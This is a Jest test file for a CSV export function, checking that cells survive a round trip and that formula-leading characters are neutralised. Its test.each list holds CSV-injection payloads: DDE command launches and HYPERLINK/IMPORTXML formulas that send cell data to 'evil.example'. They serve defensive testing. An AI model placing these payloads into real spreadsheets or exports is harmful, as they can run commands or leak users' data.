/** CSV for auditors (audit-compliance AU17): whatever stands in a cell comes back, and no spreadsheet runs it. */
import { describe, expect, test } from '@jest/globals';
import { csvLine } from '../../../src/operations/csv-lines.ts';
import * as fc from '../../chance.ts';

/** A reader of RFC 4180 that knows nothing of the writer, but that an apostrophe in front is not the cell's own. */
function parseCsv(text: string): readonly (readonly string[])[] {
  const lines: string[][] = [];
  let [cells, cell, quoted]: [string[], string, boolean] = [[], '', false];
  for (let at = 0; at < text.length; at += 1) {
    const mark = text[at] ?? '';
    if (quoted) {
      if (mark !== '"') cell += mark;
      else if (text[at + 1] === '"') cell += text[(at += 1)] ?? '';
      else quoted = false;
    } else if (mark === '"' && cell === '') quoted = true;
    else if (mark === ',') [cells, cell] = [[...cells, cell], ''];
    else if (mark === '\r' && text[at + 1] === '\n') {
      lines.push([...cells, cell]);
      [cells, cell] = [[], ''];
      at += 1;
    } else cell += mark;
  }
  return lines.map((line) => line.map((one) => one.replace(/^'/, '')));
}

const cell = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", '"', ',', ' ', 'a', '＝') }),
);

test('(audit-compliance AU17) reading what was written gives the rows', () => {
  fc.assert(
    fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { maxLength: 5 }), (rows) => {
      expect(parseCsv(rows.map(csvLine).join(''))).toEqual(rows);
    }),
  );
});

describe('(audit-compliance AU17) a formula', () => {
  test.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+1-800-EVIL',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '=IMPORTXML("http://evil.example","//a")',
    '"=1+1',
  ])('does not begin the cell %j', (formula) => {
    const shown = csvLine([formula]).replace(/^"/, '');
    expect(shown).not.toMatch(/^[=+\-@\t\r\n＝]/);
  });

  test('text and numbers stay as they are', () => {
    expect(csvLine(['12', 'Elm Street', '2026-01-02T03:04:05.678Z', ''])).toBe(
      '12,Elm Street,2026-01-02T03:04:05.678Z,\r\n',
    );
    expect(csvLine(['a,b', 'c"d', 'e\r\nf'])).toBe('"a,b","c""d","e\r\nf"\r\n');
  });
});
